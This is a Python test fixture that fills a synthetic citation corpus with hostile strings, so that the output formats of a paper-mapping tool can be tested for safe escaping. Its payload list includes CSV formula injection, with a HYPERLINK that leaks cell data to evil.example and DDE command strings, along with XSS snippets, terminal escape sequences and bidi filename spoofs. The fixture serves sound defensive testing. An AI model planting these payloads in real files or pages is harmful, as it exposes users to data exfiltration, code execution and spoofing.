"""A hostile field: every text a paper carries is an attack on some output format.

A small synthetic field (real crawl, real analysis) whose titles, abstracts, tldrs, venues and
author names start with spreadsheet formulas, hold HTML, Markdown links, terminal escape
sequences, NULs and bidi overrides. The tests of every output format run it through.
"""

from __future__ import annotations

from pathlib import Path

#: The attacks, each one a text a paper field can carry.
HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab=1+1",
    "\rCR=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1)) and <javascript:alert(2)>",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b]0;pwned title\x07",
    "\x1b]8;;https://evil.example\x1b\\a safe-looking link\x1b]8;;\x1b\\",
    "nul\x00byte and bell\x07 and backspace\x08",
    "RTL \u202egnp.exe override",
    "# heading\n\n* list <b>bold</b> `code` ![img](http://evil.example/x.png)",
)

#: Characters no terminal, XML or Markdown output may carry raw.
ESC, NUL, RLO = "\x1b", "\x00", "\u202e"


def hostile_records(n_papers: int = 200, seed: int = 3) -> tuple[list[dict], list[dict]]:
    """S2 records of a synthetic field with an attack in every text field of every paper."""
    from mentalmap.synthetic import generate_field

    papers, citations = generate_field(n_papers=n_papers, seed=seed).to_s2_records()
    for i, paper in enumerate(papers):
        attack = HOSTILE[i % len(HOSTILE)]
        other = HOSTILE[(i + 7) % len(HOSTILE)]
        paper["title"] = f"{attack} {paper.get('title') or ''}"
        paper["abstract"] = f"{other} {paper.get('abstract') or ''}"
        paper["venue"] = other
        paper["tldr"] = {"model": "tldr@v2.0.0", "text": attack}
        paper["authors"] = [
            {"authorId": f"a{i}", "name": attack},
            {"authorId": f"b{i % 9}", "name": f"{other} Jr."},
        ]
        paper["fieldsOfStudy"] = [attack, "Computer Science"]
        paper["publicationTypes"] = [other]
    return papers, citations


def hostile_store(path: Path) -> tuple[Path, str]:
    """Crawl the hostile field into a new store at ``path``; return it and the seed id."""
    from mentalmap.crawl import CrawlSettings, crawl
    from mentalmap.fake_s2 import Corpus, CorpusSource
    from mentalmap.store import Store

    papers, citations = hostile_records()
    seed = max(papers, key=lambda p: (p.get("year") or 0, p.get("referenceCount") or 0))
    with Store.open(path) as store:
        crawl(
            store,
            CorpusSource(Corpus(papers, citations)),
            [seed["paperId"]],
            CrawlSettings(depth=2, max_papers=400),
        )
    return path, seed["paperId"]
